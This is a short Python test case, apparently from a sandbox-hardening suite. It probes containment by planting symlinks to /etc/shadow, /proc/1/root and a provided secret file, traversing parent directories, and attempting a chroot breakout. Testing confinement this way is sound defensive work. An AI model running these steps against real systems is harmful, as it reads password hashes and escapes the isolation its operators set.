# attack: {"tries": "follows links out of its folder and plants some for others", "outcomes": ["exited"]}
targets = ("/etc/shadow", "../" * 40 + "etc/shadow", "/proc/1/root/etc/shadow", "/proc/self/root", given["secretFile"], "/proc/self/cwd/../../../..")
for number, target in enumerate(targets):
    for folder in (".", "/tmp", "/dev/shm"):
        path = os.path.join(folder, f"gradus-mark-{given['mark']}-{number}")
        try:
            os.symlink(target, path)
        except OSError:
            continue
        attempt(f"read {target}", lambda: os.path.isfile(path) and open(path, "rb").read(64))
attempt("chroot", lambda: os.chroot(".") or "changed root")
attempt("chroot breakout", lambda: (os.mkdir("x"), os.chroot("x"), os.chdir("../" * 40), os.listdir("."))[-1])
done()
